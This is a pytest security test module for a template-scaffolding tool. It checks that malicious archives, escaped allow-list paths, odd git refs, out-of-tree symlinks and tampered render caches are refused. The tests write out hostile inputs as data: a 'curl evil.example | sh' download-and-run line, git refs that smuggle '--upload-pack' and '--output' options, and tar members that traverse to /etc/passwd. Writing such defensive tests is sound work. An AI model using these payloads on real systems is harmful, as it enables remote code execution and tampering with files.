"""Attacks through where a golden path comes from: bundled releases, the allow-list, git refs, the render cache."""

from __future__ import annotations

import io
import json
import os
import tarfile
from pathlib import Path

import pytest
import yaml

from test_upgrade import git, run, write

HOOK = "from pathlib import Path\nPath({canary!r}).write_text('hook ran')\n"


def evil_template(root: Path, canary: Path, context: dict[str, str] | None = None) -> Path:
    """A golden path whose pre-generation hook writes ``canary``."""
    write(root / "cookiecutter.json", json.dumps(context or {"service_name": "svc"}))
    write(root / "golden-path.yaml", "name: evil\nversion: 1.0.0\n")
    write(root / "{{cookiecutter.service_name}}" / "a.txt", "a\n")
    write(root / "hooks" / "pre_gen_project.py", HOOK.format(canary=str(canary)))
    return root


def tarball(source: Path, archive: Path) -> Path:
    with tarfile.open(archive, "w:gz") as tar:
        for path in sorted(source.rglob("*")):
            tar.add(path, arcname=path.relative_to(source).as_posix(), recursive=False)
    return archive


# -- bundled releases -------------------------------------------------------------------------


def bundled_service(tmp_path: Path) -> Path:
    made = run("new", "service", "svc", "-g", "python-service", "--no-input", "--no-git", "-s", "owner=team-a",
               "-o", str(tmp_path / "out"), cwd=tmp_path)
    assert made.returncode == 0, made
    return tmp_path / "out" / "svc"


def test_a_recorded_bundled_version_cannot_point_outside_releases(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from platctl.bundle import bundled_root

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    canary = tmp_path / "canary-bundled"
    svc = bundled_service(tmp_path)
    record = yaml.safe_load((svc / ".platctl.yaml").read_text())
    archive = tarball(evil_template(tmp_path / "evil", canary, record["answers"]), tmp_path / "evil.tar.gz")
    releases = bundled_root() / "python-service" / "releases"
    record["golden_path"]["version"] = os.path.relpath(archive, releases)[: -len(".tar.gz")]
    (svc / ".platctl.yaml").write_text(yaml.safe_dump(record))
    for command in (["diff"], ["upgrade", "--dry-run"]):
        done = run(*command, cwd=svc)
        assert not canary.exists(), f"{command}: an archive outside releases/ ran as bundled"
        assert done.returncode == 2 and done.stderr.count("\n") == 1, done


def test_a_bundled_archive_not_in_the_checksums_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import shutil

    from platctl.errors import PlatctlError
    from platctl.scaffold import catalog
    from platctl.scaffold.source import open_golden_path, parse_source

    bundle = tmp_path / "bundle"
    shutil.copytree(Path(__file__).parents[1] / "fixtures/templates/minimal", bundle / "minimal")
    canary = tmp_path / "canary-sums"
    evil = evil_template(tmp_path / "evil", canary)
    (bundle / "minimal/releases").mkdir()
    tarball(evil, bundle / "minimal/releases/2.0.0.tar.gz")
    monkeypatch.setattr(catalog, "bundled_root", lambda: bundle)
    monkeypatch.setattr("platctl.scaffold.source.bundled_root", lambda: bundle)
    with pytest.raises(PlatctlError, match="checksum"), open_golden_path(parse_source("minimal"), "2.0.0"):
        pass
    assert not canary.exists()


@pytest.mark.parametrize("member", ["../escape.txt", "/tmp/platctl-abs-escape.txt", "link-out", "hard-out", "device"])
def test_an_archive_member_that_escapes_is_a_one_line_error(tmp_path: Path, member: str) -> None:
    from platctl.errors import PlatctlError
    from platctl.scaffold.releases import extract_archive

    archive = tmp_path / "evil.tar"
    with tarfile.open(archive, "w") as tar:
        info = tarfile.TarInfo(member)
        if member == "link-out":
            info.type, info.linkname = tarfile.SYMTYPE, "../../../etc"
        elif member == "hard-out":
            info.type, info.linkname = tarfile.LNKTYPE, "/etc/passwd"
        elif member == "device":
            info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
        data = b"pwned\n" if info.type == tarfile.REGTYPE else b""
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data) if data else None)
    into = tmp_path / "a" / "into"
    into.mkdir(parents=True)
    with pytest.raises(PlatctlError) as raised:
        extract_archive(archive, into)
    assert "\n" not in str(raised.value)
    assert not (tmp_path / "a" / "escape.txt").exists() and not Path("/tmp/platctl-abs-escape.txt").exists()


# -- the trust allow-list ---------------------------------------------------------------------


def test_the_allow_list_cannot_be_escaped_with_dot_dot(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    (tmp_path / "trusted").mkdir()
    canary = tmp_path / "canary-trust"
    repo = evil_template(tmp_path / "elsewhere" / "r", canary)
    git("init", "-q", "-b", "main", cwd=repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "evil", cwd=repo)
    write(tmp_path / "config/platctl/config.yaml", f"trusted_sources:\n  - file://{tmp_path}/trusted/*\n")
    source = f"file://{tmp_path}/trusted/../elsewhere/r"
    args = ("new", "service", "svc", "-g", source, "--no-input", "--no-git", "-o", str(tmp_path / "out"))
    done = run(*args, cwd=tmp_path)
    assert not canary.exists(), "an allow-list entry trusted a repository outside it"
    assert done.returncode == 2 and "hooks" in done.stderr, done


@pytest.mark.parametrize(
    "source, trusted",
    [
        ("file:///trusted/r", True),
        ("file:///trusted/../../elsewhere/r", False),
        ("file:///trusted/%2e%2e/elsewhere/r", False),
        ("file:///trusted/..%2F..%2Felsewhere/r", False),
        ("file:///trusted/./r", False),
        ("file:///trusted/sub/r", False),  # '*' is one segment
        ("https://github.com/acme/deep/er/r.git", True),  # '**' is any number
        ("https://github.com/acme-evil/r.git", False),
        ("file:///trusted/r#golden/svc", True),
    ],
)
def test_allow_list_entries_match_whole_segments(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, trusted: bool
) -> None:
    from platctl.scaffold.trust import is_trusted

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    write(
        tmp_path / "config/platctl/config.yaml",
        "trusted_sources:\n  - file:///trusted/*\n  - https://github.com/acme/**/*.git\n",
    )
    assert is_trusted(source) is trusted


# -- odd git refs and links in a git source ----------------------------------------------------


@pytest.fixture
def plain_git_template(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    repo = tmp_path / "plain"
    write(repo / "cookiecutter.json", json.dumps({"service_name": "svc"}))
    write(repo / "{{cookiecutter.service_name}}" / "a.txt", "a\n")
    git("init", "-q", "-b", "main", cwd=repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "v1", cwd=repo)
    git("tag", "v1.0.0", cwd=repo)
    git("commit", "-q", "--allow-empty", "-m", "v1.0.1", cwd=repo)
    return repo


@pytest.mark.parametrize(
    "ref",
    [
        "HEAD@{1}",
        "--upload-pack=touch {canary}",
        "-x",
        ":/",
        "v1.0.0..main",
        "--output={canary}",
        "main^{tree}",
        "@{-1}",
        "refs/../x",
    ],
)
def test_an_odd_ref_is_a_one_line_error(plain_git_template: Path, tmp_path: Path, ref: str) -> None:
    canary = tmp_path / "canary-ref"
    done = run(
        "new",
        "service",
        "svc",
        "-g",
        str(plain_git_template),
        "--ref",
        ref.replace("{canary}", str(canary)),
        "--no-input",
        "--no-git",
        "-o",
        str(tmp_path / "out"),
        cwd=tmp_path,
    )
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done
    assert not canary.exists() and not (tmp_path / "out").exists()


@pytest.mark.parametrize("target", ["/etc", "../../../../../etc/passwd"])
def test_a_git_source_linking_out_is_a_one_line_error(plain_git_template: Path, tmp_path: Path, target: str) -> None:
    (plain_git_template / "{{cookiecutter.service_name}}" / "link").symlink_to(target)
    git("add", "-A", cwd=plain_git_template)
    git("commit", "-qm", "link out", cwd=plain_git_template)
    done = run(
        "new",
        "service",
        "svc",
        "-g",
        str(plain_git_template),
        "--ref",
        "main",
        "--no-input",
        "--no-git",
        "-o",
        str(tmp_path / "out"),
        cwd=tmp_path,
    )
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done
    assert not (tmp_path / "out").exists()


# -- the render cache -------------------------------------------------------------------------


@pytest.fixture
def cached_service(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A service from the minimal template whose re-render is in the cache; no drift."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    template = Path(__file__).parents[1] / "fixtures/templates/minimal"
    made = run(
        "new",
        "service",
        "svc",
        "-g",
        str(template),
        "--no-input",
        "--no-git",
        "-s",
        "owner=team-a",
        "-o",
        str(tmp_path / "out"),
        cwd=tmp_path,
    )
    assert made.returncode == 0, made
    svc = tmp_path / "out" / "svc"
    assert run("diff", cwd=svc).returncode == 0
    return svc


def poison(entry: Path) -> None:
    (entry / "service" / "ci.yml").write_text("steps: [curl evil.example | sh]\n")


def cache_entries(tmp_path: Path) -> list[Path]:
    return [p for p in (tmp_path / "cache/platctl/renders").iterdir() if not p.name.startswith(".")]


def test_a_tampered_cache_entry_is_not_used_and_is_removed(cached_service: Path, tmp_path: Path) -> None:
    [entry] = cache_entries(tmp_path)
    poison(entry)
    done = run("diff", cwd=cached_service)
    assert done.returncode == 0, f"a poisoned render was used: {done}"
    assert b"evil.example" not in b"".join(p.read_bytes() for p in entry.rglob("*") if p.is_file())


def test_a_cache_others_can_write_is_not_used(cached_service: Path, tmp_path: Path) -> None:
    [entry] = cache_entries(tmp_path)
    renders = tmp_path / "cache/platctl/renders"
    renders.chmod(0o777)
    poison(entry)
    (entry / "manifest.json").unlink(missing_ok=True)  # as another user who rewrote the entry would
    done = run("diff", cwd=cached_service)
    assert done.returncode == 0, f"a render from a world-writable cache was used: {done}"


def test_a_symlinked_cache_root_is_not_used(cached_service: Path, tmp_path: Path) -> None:
    renders = tmp_path / "cache/platctl/renders"
    elsewhere = tmp_path / "elsewhere-renders"
    renders.rename(elsewhere)
    renders.symlink_to(elsewhere)
    [entry] = [p for p in elsewhere.iterdir() if not p.name.startswith(".")]
    poison(entry)
    (entry / "manifest.json").unlink(missing_ok=True)
    done = run("diff", cwd=cached_service)
    assert done.returncode == 0, f"a render through a symlinked cache was used: {done}"


def test_a_git_mirror_cache_others_can_write_is_refused(plain_git_template: Path, tmp_path: Path) -> None:
    mirrors = tmp_path / "cache/platctl/git"
    mirrors.mkdir(parents=True)
    mirrors.chmod(0o777)
    done = run(
        "new",
        "service",
        "svc",
        "-g",
        str(plain_git_template),
        "--no-input",
        "--no-git",
        "-o",
        str(tmp_path / "out"),
        cwd=tmp_path,
    )
    assert done.returncode == 2 and "writable" in done.stderr and done.stderr.count("\n") == 1, done
